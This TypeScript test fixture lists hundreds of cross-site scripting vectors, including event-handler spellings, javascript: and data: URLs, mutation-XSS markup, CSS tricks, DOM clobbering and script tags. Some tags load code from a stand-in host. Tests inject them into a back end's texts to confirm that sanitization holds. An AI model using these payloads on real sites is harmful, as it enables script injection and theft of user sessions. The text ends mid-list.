/**
 * Texts that make a browser run code, for tests that put them into all texts of a back end. Contains each technique of
 * the public collections (DOMPurify's test cases, OWASP's filter evasion list) once or twice, rewritten; vectors that
 * only obsolete browsers would run are kept if a parser could still stumble over them.
 * Longer than other files because it is a table.
 */
import rehypeParse from 'rehype-parse'
import { unified } from 'unified'

type Kind = 'markup' | 'script' | 'address' | 'text'

/** A text that calls a function of the page if anything in it is run. */
type Vector = {
  /** Index in the list; the vector calls `fired(number)`. */
  readonly number: number
  /** Position for which it is written: HTML, HTML with a complete script element, an address, or any other text. */
  readonly kind: Kind
  readonly text: string
  /** Whether HTML after it is parsed as if the vector were not there. */
  readonly isClosed: boolean
}

/** A vector's template: FIRE is replaced by the call, or a function writes it. */
type Draft = string | ((fire: string) => string)

const write = (draft: Draft, fire: string): string =>
  typeof draft === 'string' ? draft.replaceAll('FIRE', fire) : draft(fire)

const references = (text: string, form: (code: number) => string): string =>
  [...text].map((sign) => form(sign.codePointAt(0) ?? 0)).join('')
const decimal = (text: string) => references(text, (code) => `&#${code};`)
const padded = (text: string) => references(text, (code) => `&#${String(code).padStart(7, '0')}`)
const hexadecimal = (text: string) => references(text, (code) => `&#x${code.toString(16)};`)
const cssEscaped = (text: string) => references(text, (code) => `\\${code.toString(16).padStart(4, '0')}`)
const percent = (text: string) => references(text, (code) => `%${code.toString(16).padStart(2, '0')}`)

/** Event attributes of HTML, SVG, media and older browsers; the first ones fire without interaction. */
const EVENTS =
  `error load begin end repeat loadstart toggle focus focusin animationstart animationend animationiteration
  transitionrun transitionstart transitionend webkitanimationstart webkittransitionend canplay canplaythrough loadeddata
  loadedmetadata durationchange timeupdate progress play playing pause ended ratechange seeked volumechange waiting stalled
  emptied suspend scroll scrollend scrollsnapchange resize hashchange popstate pageshow pagehide message unload beforeunload
  visibilitychange contentvisibilityautostatechange securitypolicyviolation slotchange blur click dblclick auxclick
  contextmenu mousedown mouseenter mouseover mousemove mouseout wheel pointerover pointerenter pointerdown
  pointerrawupdate gotpointercapture touchstart drag dragstart dragover drop keydown keypress keyup input beforeinput
  change select selectstart submit formdata reset invalid search copy cut paste beforetoggle close cancel cuechange
  fullscreenchange afterprint storage command propertychange readystatechange filterchange start bounce finish`.split(
    /\s+/,
  )

const BEARERS = [
  'img src=x',
  'svg',
  'input autofocus',
  'details open',
  'video src=x autoplay',
  'p',
  'a href=# tabindex=1',
  'form',
  'iframe',
  'select autofocus',
  'audio src=x autoplay controls',
  'button',
  'textarea autofocus',
  'div style="animation:x 1ms;transition:all 1ms" contenteditable',
  'table',
  'marquee',
  'dialog open',
  'avb-link href=/',
  'avb-picture data-src=x',
  'x-unknown tabindex=1',
]

const HANDLERS: Draft[] = EVENTS.map((event, place) => {
  const bearer = BEARERS[place % BEARERS.length] ?? 'p'
  return `<${bearer} on${event}=FIRE>x</${bearer.split(' ')[0]}>`
})

/** Handlers in spellings that filters may overlook. */
const SPELLED_HANDLERS: Draft[] = [
  '<IMG SRC=x oNeRRoR=FIRE>',
  '<img/src=x/onerror=FIRE>',
  "<img src='x'onerror=FIRE>",
  '<img src=x onerror\n=\nFIRE>',
  '<img src=x onerror\t= "FIRE">',
  '<img\fsrc=x\fonerror=FIRE>',
  '<img src=`x` onerror=`FIRE`>',
  '<img src="x` `onerror=FIRE"` `>',
  '<img """><img src=x onerror=FIRE>">',
  '<img src onerror /" \'"= alt=FIRE//">',
  "<img src=x id/=' onerror=FIRE//'>",
  '<img src=x\0 onerror\0=FIRE>',
  '<\0img src=x onerror=FIRE>',
  '<img src=x x=yscript: onerror=FIRE n>',
  '<img src=x onerror=FIRE//',
  '<img src=x onerror&#61;FIRE>',
  '<image src=x onerror=FIRE>',
  (fire) => `<img src=x onerror="${decimal(fire)}">`,
  (fire) => `<img src=x onerror=${padded(fire)}>`,
  (fire) => `<img src=x onerror="${hexadecimal(`top.${fire}`)}">`,
  '<svg/onload=FIRE>',
  '<svg onload\r=FIRE></svg>',
  '<svg><g onload=FIRE></g></svg>',
  '<svg><image href=x onerror=FIRE></svg>',
  '<svg><p onclick=FIRE>x</p></svg>',
  '<a\u00a0onmouseover=FIRE>x</a>',
  '<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=FIRE>',
  '<p on<b>click=FIRE>x</p>',
  '<p onclick=FIRE onclick=x>x</p>',
  '<p ONclick ="FIRE" CLASS=x>x</p>',
  '<p data-x onclick=FIRE>x</p>',
  '<p xmlns:on="x" on:click=FIRE onclick:x=FIRE>x</p>',
  '<avb-button data-action=x onclick=FIRE>x</avb-button>',
  '<avb-tabs><avb-tab data-title="<img src=x onerror=FIRE>">x</avb-tab></avb-tabs>',
  '<avb-picture data-src=x data-alt="&quot;onerror=FIRE"></avb-picture>',
  '<avb-accordion><avb-accordion-item><avb-accordion-heading onclick=FIRE>x</avb-accordion-heading></avb-accordion-item></avb-accordion>',
]

/** Spellings of script URLs that browsers accept. */
const SPELLINGS: Draft[] = [
  'javascript:FIRE',
  'JaVaScRiPt:FIRE',
  ' javascript:FIRE',
  '\njavascript:FIRE',
  'java\tscript:FIRE',
  'java\nscript:FIRE',
  'javascript\r\n:FIRE',
  'javascript\t:\tFIRE',
  '\u0001javascript:FIRE',
  '\u0001java\u0003script:FIRE',
  '\u000e  javascript:FIRE',
  '\u0000javascript:FIRE',
  'java\u0000script:FIRE',
  '\ufeffjavascript:FIRE',
  '\u00a0javascript:FIRE',
  '\u2028javascript:FIRE',
  '\u2003javascript:FIRE',
  '\u3000javascript:FIRE',
  '\u180ejavascript:FIRE',
  'java\u200bscript:FIRE',
  'javascript://%0aFIRE',
  'javascript://example.com/%0d%0aFIRE//',
  'javascript:/*https://example.com/*/FIRE',
  'javascript:void(0)||FIRE',
  'javascript:"<img src=x onerror=FIRE>"',
  'javascript:javascript:FIRE',
  'view-source:javascript:FIRE',
  'feed:javascript:FIRE',
  'jar:javascript:FIRE!/',
  'vbscript:FIRE',
  'livescript:FIRE',
  'mocha:FIRE',
  'data:text/html,<script>FIRE</script>',
  (fire) => `data:text/html;base64,${btoa(`<script>${fire}</script>`)}`,
  ' DATA:text/html;charset=utf-8,<svg onload=FIRE>',
  'data:,FIRE',
  'data:text/javascript,FIRE',
  'data:application/xhtml+xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">FIRE</x:script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="FIRE"/>',
  (fire) => `data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${fire}"/>`)}`,
  'blob:https://vectors.test/FIRE',
  'filesystem:https://vectors.test/temporary/FIRE',
  '//vectors.test/FIRE',
  '/\\vectors.test/FIRE',
  '\\\\vectors.test\\FIRE',
  'https:vectors.test/FIRE',
  'https://vectors.test\\@shop.test/"onmouseover="FIRE',
  "/x'onmouseover='FIRE",
  '/x" onmouseover="FIRE',
  '/x><img src=x onerror=FIRE>',
  'x:x" style="x:expression(FIRE)',
  '?"><svg onload=FIRE>',
  '#"><svg onload=FIRE>',
  '../../../javascript:FIRE',
  (fire) => `javascript&colon;${fire}`,
  (fire) => `java&Tab;script&NewLine;:${fire}`,
  (fire) => decimal(`javascript:${fire}`),
  (fire) => padded(`javascript:${fire}`),
  (fire) => hexadecimal(`javascript:${fire}`),
  (fire) => percent(`javascript:${fire}`),
]

/** Places of URLs in HTML. */
const PLACES = [
  '<a href="ADDRESS">x</a>',
  '<a name=x href=ADDRESS target=_top>x</a>',
  '<a href="#" ping="ADDRESS">x</a>',
  '<map name=x><area href="ADDRESS"></map>',
  '<form action="ADDRESS"><input type=submit></form>',
  '<form><button formaction="ADDRESS">x</button></form>',
  '<form id=f1></form><button form=f1 formaction="ADDRESS">x</button>',
  '<form><input type=image src="ADDRESS" formaction="ADDRESS"></form>',
  '<isindex action="ADDRESS" type=image>',
  '<iframe src="ADDRESS"></iframe>',
  '<iframe srcdoc="<a href=ADDRESS>x</a>"></iframe>',
  '<frameset><frame src="ADDRESS"></frameset>',
  '<embed src="ADDRESS">',
  '<object data="ADDRESS"><param name=src value="ADDRESS"></object>',
  '<applet code="ADDRESS" codebase="ADDRESS"></applet>',
  '<img src="ADDRESS" lowsrc="ADDRESS" dynsrc="ADDRESS" longdesc="ADDRESS">',
  '<img srcset="ADDRESS 2x, x.png 1x">',
  '<picture><source srcset="ADDRESS"><img src=x></picture>',
  '<video src="ADDRESS" poster="ADDRESS"></video>',
  '<video><source src="ADDRESS"><track src="ADDRESS" default></video>',
  '<audio src="ADDRESS"></audio>',
  '<bgsound src="ADDRESS">',
  '<link rel=stylesheet href="ADDRESS">',
  '<link rel=import href="ADDRESS">',
  '<link rel=manifest href="ADDRESS">',
  '<base href="ADDRESS//">',
  '<meta http-equiv=refresh content="0;url=ADDRESS">',
  '<meta http-equiv="Link" content="<ADDRESS>; rel=stylesheet">',
  '<body background="ADDRESS">x',
  '<table background="ADDRESS"><td background="ADDRESS">x</td></table>',
  '<blockquote cite="ADDRESS"><q cite="ADDRESS">x</q><ins cite="ADDRESS">x</ins></blockquote>',
  '<html manifest="ADDRESS">x',
  '<svg><a href="ADDRESS"><text y=9>x</text></a></svg>',
  '<svg><a xlink:href="ADDRESS"><rect width=9 height=9 /></a></svg>',
  '<svg><a xmlns:x="http://www.w3.org/1999/xlink" x:href="ADDRESS"><rect width=9 height=9 /></a></svg>',
  '<svg><use href="ADDRESS#x" /><image xlink:href="ADDRESS" /><feImage href="ADDRESS" /></svg>',
  '<svg><a><animate attributeName=href values="ADDRESS" /><text y=9>x</text></a></svg>',
  '<svg><a xlink:href="?"><animate attributeName=xlink:href begin=0 from="ADDRESS" to="&" /><circle r=9 /></a></svg>',
  '<svg><set attributeName=href to="ADDRESS" /><animate attributeName=onmouseover to="FIRE" /></svg>',
  '<svg><style>@import "ADDRESS";</style></svg>',
  '<math href="ADDRESS">x</math>',
  '<math><maction actiontype="statusline#x" xlink:href="ADDRESS">x</maction></math>',
  '<avb-link href="ADDRESS">x</avb-link>',
  '<avb-link to="ADDRESS" target=_blank>x</avb-link>',
  '<avb-button data-action=link data-href="ADDRESS" data-to="ADDRESS">x</avb-button>',
  '<avb-picture data-src="ADDRESS" data-large="ADDRESS" data-link="ADDRESS"></avb-picture>',
  '<avb-lightbox data-src="ADDRESS" data-type=iframe>x</avb-lightbox>',
  '<avb-map data-src="ADDRESS"></avb-map>',
  '<avb-svg data-src="ADDRESS"></avb-svg>',
  '<avb-gallery><avb-gallery-item data-type=video data-src="ADDRESS" data-thumb="ADDRESS"></avb-gallery-item></avb-gallery>',
  '<avb-product-listing data-link-1="ADDRESS" data-image-1="ADDRESS"></avb-product-listing>',
  '<avb-form action="ADDRESS" method=post><input type=submit></avb-form>',
  '<button type=button data-cms=button data-action=x data-modal=acima data-href="ADDRESS">x</button>',
  '<a href=/ data-cms=lightbox data-type=video data-vtt="ADDRESS" data-src="ADDRESS">x</a>',
]

const ADDRESSED: Draft[] = PLACES.map((place, index) => (fire) => {
  // The plain spelling and another one, so that each place and each spelling is covered.
  const [plain, other] = [SPELLINGS[0] ?? '', SPELLINGS[(index % (SPELLINGS.length - 1)) + 1] ?? '']
  const spelled = write(other, fire).replaceAll('"', '&quot;')
  return [write(plain, fire), spelled]
    .map((address) =>
      write(
        place.replaceAll('ADDRESS', () => address),
        fire,
      ),
    )
    .join('')
})

/** Elements that load or contain another document, or change this one. */
const DOCUMENTS: Draft[] = [
  '<iframe srcdoc="<script>FIRE</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.FIRE&gt;" src="/"></iframe>',
  '<iframe src="data:text/html,<script>FIRE</script>" sandbox="allow-scripts"></iframe>',
  '<object type=text/x-scriptlet data="https://vectors.test/FIRE"></object>',
  '<object data="data:text/html;base64,PHN2ZyBvbmxvYWQ9ZmlyZWQoMCk+"></object>',
  '<object classid="clsid:0" onqt_error="FIRE" style="behavior:url(#x)"><param name=postdomevents></object>',
  '<embed src="/x.svg" allowscriptaccess=always type=image/svg+xml onload=FIRE>',
  '<link rel=stylesheet href="https://vectors.test/FIRE.css" onload=FIRE>',
  '<link rel=preload as=script href="https://vectors.test/FIRE">',
  '<link rel=modulepreload href="https://vectors.test/FIRE.js">',
  '<meta http-equiv=refresh content="0; URL=https://vectors.test/FIRE">',
  '<meta http-equiv="Set-Cookie" content="FIRE=1">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<meta name=referrer content=unsafe-url><meta charset=utf-7>+ADw-img src=x onerror=FIRE+AD4-',
  '<base href="https://vectors.test/FIRE/">',
  '<base target="_blank"><base href="javascript:FIRE;//">',
  '<portal src="https://vectors.test/FIRE"></portal>',
  '<fencedframe></fencedframe><webview src="https://vectors.test/FIRE"></webview>',
  '<xml id=x1><i><img src="javas<!-- -->cript:FIRE"></i></xml><span datasrc=#x1 datafld=i dataformatas=html></span>',
  '<?xml-stylesheet type="text/xsl" href="data:,<x:script>FIRE</x:script>"?><root/>',
  '<!DOCTYPE x [<!ENTITY y "<img src=x onerror=FIRE>">]><p>&y;</p>',
  '<!--[if gte IE 4]><img src=x onerror=FIRE><![endif]-->',
  '<!--#exec cmd="FIRE"--><? echo("<img src=x onerror=FIRE>") ?>',
  '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>FIRE</handler>',
  '<t:set attributeName=innerHTML to="<img src=x onerror=FIRE>"><import implementation="#default#time2"></t:set>',
  '<event-source src="https://vectors.test/FIRE" onload=FIRE></event-source>',
  '<input type=hidden accesskey=x onclick=FIRE popovertarget=y><div popover id=y onbeforetoggle=FIRE>x</div>',
  '<button commandfor=y command=show-modal onclick=FIRE>x</button>',
  '<b is=x-unknown onclick=FIRE slot=x>x</b>',
  '<keygen autofocus onfocus=FIRE>',
  '<div contenteditable autofocus onfocus=FIRE tabindex=1>x</div>',
  '<form><input name=dir dirname="FIRE" formtarget=_blank></form>',
]

/** Style sheets and attributes. */
const STYLES: Draft[] = [
  '<style>@import "javascript:FIRE";</style>',
  "<style>@import'//vectors.test/FIRE.css';</style>",
  '<style>@im\\port"data:text/css,*{x:expression(FIRE)}";</style>',
  '<style>p{background:url("javascript:FIRE")}</style>',
  '<style>li{list-style-image:url(javascript:FIRE)}</style><ul><li>x</ul>',
  '<style>body{-moz-binding:url("//vectors.test/FIRE.xml#x")}</style>',
  '<style>*{x:expression(FIRE)}</style>',
  '<style>*{x:ex/**/pression(FIRE);behavior:url(x.htc)}</style>',
  '<style type=text/javascript>FIRE</style>',
  '<style><!--</style><img src=x onerror=FIRE>--></style>',
  '<style><img src="</style><img src=x onerror=FIRE//"></style>',
  '<style></style\t><img src=x onerror=FIRE></style>',
  '<style></STYLE/x><img src=x onerror=FIRE></style>',
  '<style>\\3c/style\\3e\\3cimg src=x onerror=FIRE\\3e</style>',
  '<style>x{content:"\\</style><img src=x onerror=FIRE>"}</style>',
  '<style>/*<script>FIRE</script>*/</style>',
  '<style>/*<meta name="showroom-status" content="500"/>FIRE*/</style>',
  '<style>/*<script src="https://vectors.test/_next/static/FIRE.js" async=""></script>*/</style>',
  '<style>/*<script>self.__next_f.push([1,"FIRE"])</script><div hidden="" data-head-data="">*/</style>',
  '<style>/*<meta name="showroom-policy" content="[{&quot;by&quot;:&quot;FIRE&quot;,&quot;code&quot;:[&quot;https://vectors.test&quot;]}]"/>*/</style>',
  '<style>@keyframes x{}</style><p style="animation:x 1ms" onanimationstart=FIRE>x</p>',
  '<p style="width:expression(FIRE)">x</p>',
  '<p style="xss:expr/*x*/ession(FIRE)">x</p>',
  '<p style="x:\\65xpression(FIRE)">x</p>',
  '<p style="behavior:url(#default#time2)" onbegin=FIRE>x</p>',
  '<p style="background:url(javascript:FIRE)">x</p>',
  (fire) => `<p style="background:\\75rl('${cssEscaped(`javascript:${fire}`)}')">x</p>`,
  '<p style="background:url(&#1;javascript:FIRE)">x</p>',
  '<p style="-moz-binding:url(//vectors.test/FIRE)">x</p>',
  '<a style="-o-link:\'javascript:FIRE\';-o-link-source:current">x</a>',
  '<p style=\'font-family:"</style><img src=x onerror=FIRE>"\'>x</p>',
  '<p style="x:\uff45\uff58\uff50\uff52\uff45\uff53\uff53\uff49\uff4f\uff4e(FIRE)">x</p>',
  '<p style="--x:</p><img src=x onerror=FIRE>">x</p>',
  '<svg><style><img src=x onerror=FIRE></style></svg>',
  '<br size="&{FIRE}">',
]

/** Mutation XSS: HTML that is parsed differently after serialization. */
const MUTATIONS: Draft[] = [
  '<noscript><p title="</noscript><img src=x onerror=FIRE>">',
  '<noscript><!-- </noscript><img src=x onerror=FIRE> --></noscript>',
  '<b><noscript><a alt="</noscript><img src=x onerror=FIRE>"></a></noscript></b>',
  '<template><s><template><s><img src=x onerror=FIRE></s></template></s></template>',
  '<template shadowrootmode=open><img src=x onerror=FIRE></template>',
  '<div><template shadowrootmode=open shadowrootclonable><slot onslotchange=FIRE></slot></template>x</div>',
  '<select><template><img src=x onerror=FIRE></template></select>',
  '<select><style></select><img src=x onerror=FIRE></style></select>',
  '<select><iframe></select><img src=x onerror=FIRE></iframe></select>',
  '<select><noscript></select><img src=x onerror=FIRE></noscript>',
  '<option><style></option></select><b><img src=x onerror=FIRE></style></option>',
  '<textarea><img title="</textarea><img src=x onerror=FIRE>"></textarea>',
  '<textarea>x</textarea><!--</textarea><img src=x onerror=FIRE>-->',
  '<title><img title="</title><img src=x onerror=FIRE>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=FIRE>"></xmp>',
  "<xmp><svg><b><style><b title='</style><img src=x onerror=FIRE>'></xmp>",
  "<noembed><svg><b><style><b title='</style><img src=x onerror=FIRE>'></noembed>",
  '<noframes><p title="</noframes><img src=x onerror=FIRE>"></noframes>',
  '<iframe><p title="</iframe><img src=x onerror=FIRE>"></iframe>',
  '<listing>&lt;img onerror="FIRE" src=x&gt;<t t></listing>',
  '<plaintext><img src=x onerror=FIRE>',
  '<svg></p><style><a id="</style><img src=x onerror=FIRE>"></style></svg>',
  '<svg></p><title><a id="</title><img src=x onerror=FIRE>"></title></svg>',
  '<svg></p><textarea><title><style></textarea><img src=x onerror=FIRE></style></title></svg>',
  '<svg><p><style><g title="</style><img src=x onerror=FIRE>"></style></svg>',
  '<svg></p><title><template><style></title><img src=x onerror=FIRE>',
  '<svg><foreignObject><p><style><p title="</style><iframe onload&#x3d;FIRE>"></style></foreignObject></svg>',
  '<svg><foreignObject><img src=x onerror=FIRE></foreignObject></svg>',
  '<svg><desc><img src=x onerror=FIRE></desc><title><img src=x onerror=FIRE></title></svg>',
  '<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=FIRE>"></desc></svg>',
  '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=FIRE//"></svg>',
  '<svg><style><![CDATA[</style><img src=x onerror=FIRE>]]></style></svg>',
  '<svg><style>&lt;/style&gt;&lt;img src=x onerror=FIRE&gt;</style></svg>',
  '<svg><script>&#102;ired(0)||FIRE</script></svg>',
  '<svg><script href="data:,FIRE" /></svg>',
  '<svg><animate onbegin=FIRE attributeName=x dur=1s /><set onbegin=FIRE /></svg>',
  '<svg><discard onbegin=FIRE /><mpath onload=FIRE /></svg>',
  '<svg><image style=\'filter:url("data:image/svg+xml,<svg><script>FIRE</script></svg>")\' /></svg>',
  '<svg><a><svg><a xlink:href="javascript:FIRE"><text y=9>x</text></a></svg></a></svg>',
  '<math></p><textarea><mi><style></textarea><img src=x onerror=FIRE></mi></math>',
  '<math></br><textarea><mtext><template><style></textarea><img src=x onerror=FIRE>',
  '<math><mtext><table><mglyph><style><img src=x onerror=FIRE></style></mglyph></table></mtext></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=FIRE&gt;"></style></table></mtext></math>',
  '<math><mtext><table><mglyph><style><math href=javascript:FIRE>x</math></style></table></mtext></math>',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=FIRE>"></style></h1></math>',
  '<math><mtext><option><x-x><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=FIRE>"></style></svg></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=FIRE></style></form>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=FIRE src>"></style></svg></form>',
  '<math><annotation-xml encoding="text/html"><p><style><p title="</style><iframe onload&#x3d;FIRE>"></style></annotation-xml></math>',
  '<math><annotation-xml encoding="application/xhtml+xml"><svg onload=FIRE></svg></annotation-xml></math>',
  '<math><mi//xlink:href="data:x,FIRE">x</mi></math>',
  '<table><tr><td><svg><desc><td><a title="</desc><img src=x onerror=FIRE>"></a></td></desc></svg></td></tr></table>',
  '<table><img src=x onerror=FIRE><a href=javascript:FIRE>x</a></table>',
  '<table><caption><svg><caption><style><a id="</style><img src=x onerror=FIRE>"></style></svg></caption></table>',
  '<b><style><style/><img src=x onerror=FIRE></style></b>',
  '<b><style><style////><img src=x onerror=FIRE></style></b>',
  '<b <script>FIRE//</script>0</b>',
  '<b><script<b></b><img src=x onerror=FIRE></script</b></b>',
  '<!--><img src=x onerror=FIRE>-->',
  '<!---><img src=x onerror=FIRE>-->',
  '<!-- --!><img src=x onerror=FIRE> -->',
  '<!-- `<img/src=x onerror=FIRE//--!>',
  '<!--<img src="--><img src=x onerror=FIRE//">',
  '<comment><img src="</comment><img src=x onerror=FIRE//"></comment>',
  '<![><img src="]><img src=x onerror=FIRE//">',
  '<![CDATA[<img src=x onerror=FIRE>]]>',
  '<? foo="><img src=x onerror=FIRE>">',
  '<! foo="><img src=x onerror=FIRE>">',
  '</ foo="><img src=x onerror=FIRE>">',
  '<% foo><x foo="%><img src=x onerror=FIRE>"></x>',
  "<x foo='><img src=x onerror=FIRE>'></x>",
  "<x xmlns='\"><iframe onload=FIRE//'></x>",
  '<a href=/x#`y></a><img alt="`><img src=x onerror=FIRE></a>">',
  '<img alt="<x" title="/><img src=x onerror=FIRE>">',
  '<p title="--><img src=x onerror=FIRE>">x</p>',
  '<p title="]]><img src=x onerror=FIRE>">x</p>',
  '<p title="</script><script>FIRE</script>">x</p>',
  '<p title="<script>FIRE</script>" lang=\'"><img src=x onerror=FIRE>\'>x</p>',
  '<p title=`><img/src=x/onerror=FIRE>`>x</p>',
  '<div><p title="<script>FIRE" lang="</style>">\u201cx\u201d</p><p title="<style>">\u2026</p></div>',
  '<input value="``onmouseover=FIRE">',
  '<p id="x"onclick="FIRE">x</p><p id=\'x\'onclick=FIRE>x</p>',
  '<div>&lt;img src=x onerror=FIRE&gt;&amp;lt;img src=x onerror=FIRE&amp;gt;</div>',
  '<div data-head-data=""><script type="application/ld+json">{"a":"FIRE"}</script></div>',
  '<div hidden data-head-data>&lt;script>FIRE&lt;/script></div>',
  '<a href="/"><a href="javascript:FIRE">x</a></a>',
  '<a style="position:absolute"><a onclick="FIRE">x</a></a>',
  '<<img src=x onerror=FIRE//<</img>',
  '<img src=x onerror=FIRE <p>x</p>',
  '<div/><svg/><img/src=x onerror=FIRE></svg></div>',
  '</p></div></main></body></html><img src=x onerror=FIRE>',
  '<p>x<avb-link href="/x"><table><avb-link href="javascript:FIRE">y</avb-link></table></avb-link></p>',
]

/** DOM clobbering: names that shadow properties of the document, of forms and of the page's code. */
const CLOBBERING: Draft[] = [
  ...[
    ...['getElementById', 'createElement', 'querySelector', 'querySelectorAll', 'body', 'head', 'cookie', 'location'],
    ...[
      'documentElement',
      'addEventListener',
      'implementation',
      'currentScript',
      'activeElement',
      'adoptNode',
      'forms',
    ],
    ...['defaultView', 'readyState', 'createTreeWalker', 'firstElementChild', 'domain', 'nodeType', 'nextSibling'],
  ].map((name): Draft => `<img src=x name=${name} alt="FIRE">`),
  '<form name=createElement id=getElementById><input name=id></form>',
  '<form name=body><input name=firstChild></form>',
  '<iframe name=cookie src="/about" title=FIRE></iframe>',
  '<form><input name=attributes><input name=attributes></form>',
  '<form><input name=parentNode><input name=nodeName><input name=nodeType><input name=ownerDocument></form>',
  '<form><input name=children><input name=childNodes><button name=lastChild>x</button></form>',
  '<form><input name=removeChild><input name=appendChild><select name=insertBefore></select></form>',
  '<form><input name=setAttribute><input name=removeAttribute><textarea name=getAttribute></textarea></form>',
  '<form><input id=namespaceURI><input id=nextSibling><output name=hasChildNodes></output></form>',
  '<form><input name=submit><input name=acceptCharset><input name=action value="javascript:FIRE"></form>',
  '<form><input name=addEventListener><fieldset name=contains></fieldset><input name=isConnected></form>',
  '<a id=__next_f></a><a id=__next_f href="javascript:FIRE"></a>',
  '<a id=__NEXT_DATA__>{"x":"FIRE"}</a><div id=_R_></div>',
  '<a id=dataLayer href="javascript:FIRE"></a><form id=dataLayer name=push></form>',
  '<div id="S:0"><p>x</p></div><p id="B:0"></p><p id="P:0">x</p><template id="B:1"></template>',
  '<button type=button data-cms=button data-modal=constructor title="FIRE">x</button>',
  '<content-code hidden data-props=\'{"enhancements":[],"settings":{},"scripts":["data:,FIRE"]}\'></content-code>',
  '<a href=/ data-cms=click data-click-script="../x?FIRE">x</a><p data-kiosk="" data-deferred="" data-waits=code>x</p>',
  '<a id=self href="javascript:FIRE"></a><a id=window></a><a id=top></a><a id=parent></a>',
  '<a id=fetch></a><a id=React></a><a id=next></a><a id=grecaptcha></a><a id=ApplePaySession></a><a id=paypal></a>',
  '<a id=defaultView><a id=defaultView name=x href="javascript:FIRE"></a>',
  '<img name=x1 src=x><img name=x1 src=x><p id=constructor>x</p><p id=toString>x</p><p id=__proto__>x</p>',
]

/** Complete script elements: allowed for staff in pages and blocks, nowhere else. */
const SCRIPTS: Draft[] = [
  '<script>FIRE</script>',
  '<SCRIPT>FIRE</SCRIPT >',
  '<script/x>FIRE</script/x>',
  '<script type=module>FIRE</script>',
  '<script async defer nomodule>FIRE</script>',
  '<script language=javascript1.5>FIRE</script>',
  '<script type="text/javascript;version=1.7">FIRE</script>',
  '<script for=document event=onload>FIRE</script>',
  '<script src=//vectors.test/FIRE></script>',
  '<script/src="https://vectors.test/FIRE.js"></script>',
  '<script src="data:text/javascript,FIRE"></script>',
  '<script src="/\\vectors.test/FIRE"></script>',
  '<script src=https://vectors.test/FIRE?<b>',
  '<script nonce=x integrity=sha256-x crossorigin src=https://vectors.test/FIRE></script>',
  '<script type=importmap>{"imports":{"x":"https://vectors.test/FIRE"}}</script>',
  '<script type=speculationrules>{"prefetch":[{"urls":["https://vectors.test/FIRE"]}]}</script>',
  '<script type="application/ld+json">{"x":"</script><script>FIRE</script>',
  '<<script>FIRE;//<</script>',
  '<scr<script>ipt>FIRE</script>',
  '<script>/*<!--<script>*/FIRE</script>',
  '<script><!--\u2028FIRE//--></script>',
  '<script xmlns="http://www.w3.org/1999/xhtml"><![CDATA[\nFIRE\n]]></script>',
  '<script x=">" src="data:,FIRE"></script><script>FIRE',
  '<b>x<script\f>FIRE</script\n></b>',
  '<img """><script>FIRE</script>">',
  '\u00bcscript\u00beFIRE\u00bc/script\u00be<script charset=utf-7>+AGYAaQByAGUAZA-FIRE</script>',
]

/** Text that ends its context, and characters that parsers mishandle. */
const TEXTS: Draft[] = [
  '"><img src=x onerror=FIRE>',
  "'><img src=x onerror=FIRE>",
  '`><img src=x onerror=FIRE>',
  '"onfocus="FIRE"autofocus="',
  "' onfocus='FIRE' autofocus='",
  '` onfocus=`FIRE` autofocus=`',
  '&quot;&gt;&lt;img src=x onerror=FIRE&gt;',
  '&#34;&#62;&#60;img src=x onerror=FIRE&#62;',
  '</script><script>FIRE</script>',
  '</script ><svg onload=FIRE>',
  '</ScRiPt\u0000><svg onload=FIRE>',
  '<!--<script>FIRE',
  '--><svg onload=FIRE>',
  '--!><svg onload=FIRE>',
  ']]><svg onload=FIRE>',
  '</title><svg onload=FIRE>',
  '</textarea><svg onload=FIRE>',
  '</style><svg onload=FIRE>',
  '</noscript><svg onload=FIRE>',
  '</template><svg onload=FIRE>',
  '</option></select><svg onload=FIRE>',
  '</iframe></object></svg></math><svg onload=FIRE>',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+FIRE//'>",
  '";FIRE;//',
  "';FIRE;//",
  '\\";FIRE;//',
  "\\');FIRE;//",
  '`;FIRE;//',
  '$' + '{FIRE}',
  '`$' + '{FIRE}`',
  '"+FIRE+"',
  '"}];FIRE;[{"x":"',
  '\u2028FIRE//',
  '\u2029FIRE//',
  '*/FIRE/*',
  '\\u003cimg src=x onerror=FIRE\\u003e',
  '\\x3cimg src=x onerror=FIRE\\x3e',
  '%3Cimg%20src%3Dx%20onerror%3DFIRE%3E',
  '\uff1cimg src=x onerror=FIRE\uff1e',
  '\u02bcimg\u02bc onerror=FIRE \u3008script\u3009',
  '+ADw-img src=x onerror=FIRE+AD4-',
  '\ud83dFIRE\ude00 <img src=x onerror=FIRE>',
  '\ud800<img src=x onerror=FIRE>\udfff',
  '\u202e>FIRE=rorreno x=crs gmi<\u202c <img src=x onerror=FIRE>',
  '\u2066<svg onload=FIRE>\u2069\u200e\u061c',
  '\ufeff<svg onload=FIRE>\ufffe\uffff',
  '\u0000<svg onload=FIRE>\u0008\u001b[31m\u007f\u0085',
  '{{FIRE}}',
  "{{constructor.constructor('FIRE')()}}",
  '{% FIRE %}<%= FIRE %>#{FIRE}[[FIRE]]',
  '{name, select, other {<img src=x onerror=FIRE>}}',
  '<b>{x}</b> {0} {count, plural, other {FIRE}}',
  'Set.constructor`FIRE```',
  '__proto__',
  'constructor',
  'prototype.toString',
  'hasOwnProperty',
  '__defineGetter__',
  "$& $1 $` $' $$ <img src=x onerror=FIRE>",
  '%s %d %c %o <img src=x onerror=FIRE>',
